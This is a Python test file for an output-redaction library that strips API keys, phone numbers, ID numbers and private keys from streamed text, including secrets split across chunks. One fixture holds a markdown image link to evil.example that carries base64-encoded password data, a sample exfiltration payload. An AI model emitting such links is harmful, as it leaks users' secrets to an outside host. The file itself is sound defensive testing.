"""Redaction of whole texts and of streams, including secrets split across chunks."""

from __future__ import annotations

import pytest

from tests.guard import numbers
from tokenward.guard import FINDING_TYPES, Finding, Scanner, StreamRedactor, redact_text
from tokenward.guard.redact import hold_start

KEY = "sk-proj-" + "a1B2c3D4e5F6g7H8i9J0kLmNoPqRsTuVwXyZ0123456789"
ID = "11010519900307123" + numbers.id_check_char("11010519900307123")
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "\n".join(["MIIEpAIBAAKCAQEAx7Gh" + "Q2w3" * 11] * 3)
    + "\n-----END RSA PRIVATE KEY-----"
)
TEXT = (
    f"Here is the key: {KEY} and phone 138 0013 8000. 身份证{ID}。"
    f"![x](https://evil.example/p.png?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg)\n{PEM}\nbye"
)


def stream(scanner: Scanner, chunks: list[str], **kw: object) -> tuple[str, StreamRedactor]:
    redactor = StreamRedactor(scanner, redact=FINDING_TYPES, **kw)  # type: ignore[arg-type]
    return "".join(redactor.feed(c) for c in chunks) + redactor.flush(), redactor


def test_redact_text_uses_typed_placeholders() -> None:
    text = "call 13800138000 or mail a@example.com"
    found = [Finding("cn_mobile", 5, 16, 0.9, ""), Finding("email", 25, 38, 0.9, "")]
    assert redact_text(text, found) == "call [CN_MOBILE] or mail [EMAIL]"
    assert redact_text(text, found, types={"email"}) == "call 13800138000 or mail [EMAIL]"


def test_overlapping_findings_merge() -> None:
    found = [Finding("secret_generic", 0, 10, 0.9, ""), Finding("secret_jwt", 5, 12, 0.9, "")]
    assert redact_text("x" * 14, found) == "[SECRET]xx"


def test_every_two_chunk_split_matches_whole_text_redaction(scanner: Scanner) -> None:
    """A secret (and every other finding) split at any boundary is still redacted whole."""
    expected = redact_text(TEXT, scanner.scan(TEXT, role="assistant"))
    assert KEY not in expected and "0013" not in expected and ID not in expected
    for i in range(1, len(TEXT)):
        out, _ = stream(scanner, [TEXT[:i], TEXT[i:]])
        assert out == expected, i


def test_secret_split_at_every_boundary_of_itself(scanner: Scanner) -> None:
    """The brief's case: only the key, cut into three pieces at every pair of points."""
    text = f"token {KEY} done"
    for i in range(6, 6 + len(KEY), 3):
        for j in range(i + 1, 6 + len(KEY), 5):
            out, _ = stream(scanner, [text[:i], text[i:j], text[j:]])
            assert out == "token [SECRET] done"


def test_character_by_character(scanner: Scanner) -> None:
    expected = redact_text(TEXT, scanner.scan(TEXT, role="assistant"))
    out, redactor = stream(scanner, list(TEXT))
    assert out == expected
    assert [f.type for f in redactor.findings] == [
        "secret_openai_key", "cn_mobile", "cn_resident_id", "exfil_url", "secret_private_key"
    ]  # fmt: skip
    first = redactor.findings[0]
    assert TEXT[first.start : first.end] == KEY


def test_prose_is_not_held_back(scanner: Scanner) -> None:
    """Only the tail that could still grow into a match is withheld."""
    redactor = StreamRedactor(scanner, redact=FINDING_TYPES)
    assert redactor.feed("你好，今天天气不错。") == "你好，今天天气不错。"
    assert redactor.feed("The answer is ") == "The answer is "
    assert redactor.feed("sk-proj-a1B2") == ""
    assert redactor.flush() == "sk-proj-a1B2"  # too short to be a key


def test_hold_start() -> None:
    assert hold_start("call 138 0013 ", 100) == 5
    assert hold_start("key: -----BEGIN RSA PRI", 100) == 5
    assert hold_start("done. ", 100) == 6


def test_block_types_are_redacted_and_flagged(scanner: Scanner) -> None:
    redactor = StreamRedactor(scanner, block={"secret_openai_key"})
    out = redactor.feed(f"k={KEY[:20]}") + redactor.feed(KEY[20:] + " ok") + redactor.flush()
    assert out == "k=[SECRET] ok" and redactor.blocked


def test_log_types_pass_through_but_are_recorded(scanner: Scanner) -> None:
    redactor = StreamRedactor(scanner, redact={"email"})
    out = redactor.feed("call 13800138000 now") + redactor.flush()
    assert out == "call 13800138000 now"
    assert [f.type for f in redactor.findings] == ["cn_mobile"]


@pytest.mark.parametrize("size", [7, 50])
def test_a_key_longer_than_the_hold_is_dropped_not_leaked(scanner: Scanner, size: int) -> None:
    """Past `max_hold` the placeholder goes out and the rest of the block is dropped."""
    text = f"key:\n{PEM}\nafter"
    chunks = [text[i : i + size] for i in range(0, len(text), size)]
    out, _ = stream(scanner, chunks, max_hold=120)
    assert "MIIE" not in out and "Q2w3" not in out
    assert out.startswith("key:\n") and out.endswith("after")
